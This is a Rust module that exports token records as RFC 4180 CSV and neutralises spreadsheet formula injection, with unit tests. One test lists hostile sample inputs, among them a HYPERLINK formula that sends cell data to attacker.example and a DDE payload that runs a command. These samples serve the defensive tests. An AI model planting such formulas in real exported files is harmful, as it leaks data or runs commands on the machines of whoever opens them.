//! Comma-separated values, as RFC 4180 writes them, that are safe to open in a spreadsheet.

/// What a list of tokens says of one. No member holds a token or a signature.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TokenLine {
    pub kind: String,
    pub subject: String,
    pub issuer: String,
    pub audience: String,
    /// Instants as RFC 3339 writes them, or empty.
    pub issued: String,
    pub expires: String,
    pub state: String,
    pub label: String,
    pub method: String,
    pub address: String,
    pub status: String,
    pub requested: String,
    pub times_seen: usize,
}

/// The names of the columns.
const COLUMNS: [&str; 13] = [
    "kind",
    "subject",
    "issuer",
    "audience",
    "issued",
    "expires",
    "state",
    "label",
    "method",
    "address",
    "status",
    "time of request",
    "times seen",
];

/// A table of tokens, with a line of names first.
pub fn tokens(lines: impl IntoIterator<Item = TokenLine>) -> String {
    let mut text = record(COLUMNS);
    for line in lines {
        let TokenLine { kind, subject, issuer, audience, issued, expires, state, label, method, address, .. } = &line;
        let times_seen = line.times_seen.to_string();
        let fields: [&str; COLUMNS.len()] = [
            kind,
            subject,
            issuer,
            audience,
            issued,
            expires,
            state,
            label,
            method,
            address,
            &line.status,
            &line.requested,
            &times_seen,
        ];
        text += &record(fields);
    }
    text
}

/// One record, with its line break (RFC 4180 section 2).
fn record<'f>(fields: impl IntoIterator<Item = &'f str>) -> String {
    let fields: Vec<String> = fields.into_iter().map(field).collect();
    fields.join(",") + "\r\n"
}

/// A field. Spreadsheets take one that begins with certain characters for a formula and run it; an apostrophe in front
/// makes it text.
fn field(text: &str) -> String {
    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    let text = if is_formula { format!("'{text}") } else { text.to_owned() };
    match text.contains([',', '"', '\r', '\n']) || text.starts_with('\'') || text != text.trim() {
        true => format!("\"{}\"", text.replace('"', "\"\"")),
        false => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_what_would_end_a_field() {
        for (text, expected) in [
            ("", ""),
            ("plain", "plain"),
            ("a b", "a b"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "\"two\nlines\""),
            (" spaced ", "\" spaced \""),
            ("größe", "größe"),
            ("a=b", "a=b"),
            ("2026-11-23T15:00:00Z", "2026-11-23T15:00:00Z"),
            ("https://api.example/a?b=…", "https://api.example/a?b=…"),
        ] {
            assert_eq!(field(text), expected, "{text:?}");
        }
    }

    #[test]
    fn no_field_is_a_formula() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "=cmd|' /C calc'!A0",
        ] {
            let field = field(text);
            assert!(field.starts_with("\"'") && field.ends_with('"'), "{field:?}");
        }
    }

    #[test]
    fn a_table_has_a_line_of_names_and_one_for_each_token() {
        let line = TokenLine {
            kind: "access token".to_owned(),
            subject: "=2+3".to_owned(),
            issuer: "https://login.example.com/".to_owned(),
            status: "401".to_owned(),
            times_seen: 5,
            ..TokenLine::default()
        };
        assert_eq!(
            tokens([line]),
            "kind,subject,issuer,audience,issued,expires,state,label,method,address,status,time of request,times seen\r\n\
             access token,\"'=2+3\",https://login.example.com/,,,,,,,,401,,5\r\n"
        );
        assert_eq!(tokens([]).lines().count(), 1);
    }
}
